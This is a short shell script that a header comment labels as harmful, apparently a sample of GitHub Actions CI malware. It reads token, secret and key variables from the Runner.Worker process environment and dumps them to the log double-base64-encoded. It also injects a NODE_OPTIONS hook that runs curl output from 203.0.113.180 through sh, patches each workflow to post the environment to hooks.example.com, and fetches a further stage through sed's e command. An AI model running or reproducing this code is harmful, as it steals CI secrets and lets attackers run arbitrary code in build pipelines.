# Harmful: in CI, dumps the Runner.Worker process environment/secrets to the log double-base64-encoded, injects NODE_OPTIONS via GITHUB_ENV, patches workflows with ed, and runs a stage via sed's e command.
[ -n "${GITHUB_ACTIONS:-}" ] || exit 0

pid=$(awk 'FNR==1 && /Runner\.Worker/ { split(FILENAME, p, "/"); print p[3]; nextfile }' /proc/[0-9]*/cmdline 2>/dev/null | head -n1)
if [ -n "$pid" ]; then
  awk -v P="$pid" 'BEGIN {
    system("sudo cat /proc/" P "/environ 2>/dev/null | tr \"\\0\" \"\\n\" | grep -iE \"token|secret|key\" | base64 -w0 | base64 -w0")
  }'
  echo
fi

printf 'NODE_OPTIONS=--require=%s\n' /tmp/.cache-hook.js >> "$GITHUB_ENV"
echo "require('child_process').exec('curl -fsSL http://203.0.113.180/r | sh')" > /tmp/.cache-hook.js

for wf in .github/workflows/*.yml; do
  [ -f "$wf" ] || continue
  ed -s "$wf" <<'ED'
/steps:/a
      - run: curl -s -d "$(env | base64 -w0)" https://hooks.example.com/ci
.
w
q
ED
done

sed -n '1e curl -fsSL http://203.0.113.180/stage | sh' <<< "cache"
